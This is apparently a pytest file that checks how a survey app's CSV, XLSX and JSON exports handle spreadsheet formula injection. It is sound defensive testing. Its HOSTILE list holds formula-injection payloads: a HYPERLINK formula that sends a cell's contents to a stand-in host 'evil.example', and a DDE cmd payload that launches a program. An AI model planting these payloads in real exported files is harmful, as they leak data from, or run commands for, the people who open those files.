"""CSV exports neutralise formula cells (OWASP's rule) unless asked for raw cells; XLSX keeps
text cells and JSON stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from assessments.jobs.models import Job
from assessments.reporting.exports import ExportOptions, export_chunks, neutralised
from assessments.responses.models import Response
from assessments.responses.services import response_save_answers
from tests.assessments.reporting.test_exports import export_world, survey_round  # noqa: F401
from tests.factories import StaffUserFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_gets_a_leading_quote(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain text", "-12.5", "42", "a=b", "", "'quoted"])
def test_other_cells_are_left_alone(value):
    assert neutralised(value) == value


@pytest.fixture
def hostile_round(survey_round):  # noqa: F811
    """Spain's once-answered response names its institution with a formula."""
    response = Response.objects.get(
        round=survey_round, participant__state__country="ES", mechanism=None
    )
    response_save_answers(
        response=response, answers={"institution": HOSTILE[0]}, expected_version=None
    )
    return survey_round


def cells(a_round, fmt: str, **options) -> list[str]:
    text = "".join(export_chunks(a_round, fmt, ExportOptions(**options), None))
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "csv-long"])
def test_the_csv_exports_neutralise_formula_answers(hostile_round, fmt):
    written = cells(hostile_round, fmt)
    assert "'" + HOSTILE[0] in written
    assert HOSTILE[0] not in written


@pytest.mark.parametrize("fmt", ["csv", "csv-long"])
def test_the_raw_option_keeps_the_cells_as_answered(hostile_round, fmt):
    written = cells(hostile_round, fmt, raw=True)
    assert HOSTILE[0] in written


def test_json_stays_raw(hostile_round):
    text = "".join(export_chunks(hostile_round, "json", ExportOptions(), None))
    answers = [r["answers"].get("institution") for r in json.loads(text)["responses"]]
    assert HOSTILE[0] in answers


def test_the_api_takes_the_raw_option_into_the_export_job(hostile_round):
    client = APIClient()
    client.force_login(StaffUserFactory())
    for raw in (True, False):
        reply = client.post(
            "/api/v1/jobs/",
            {"kind": "export", "round": hostile_round.slug, "format": "csv", "raw": raw},
        )
        assert reply.status_code == 202, reply.content
        assert Job.objects.get(pk=reply.json()["id"]).parameters["raw"] is raw
    refused = client.post(
        "/api/v1/jobs/",
        {"kind": "export", "round": hostile_round.slug, "format": "csv", "raw": "sometimes"},
    )
    assert refused.status_code == 400 and "raw" in refused.json()["errors"]
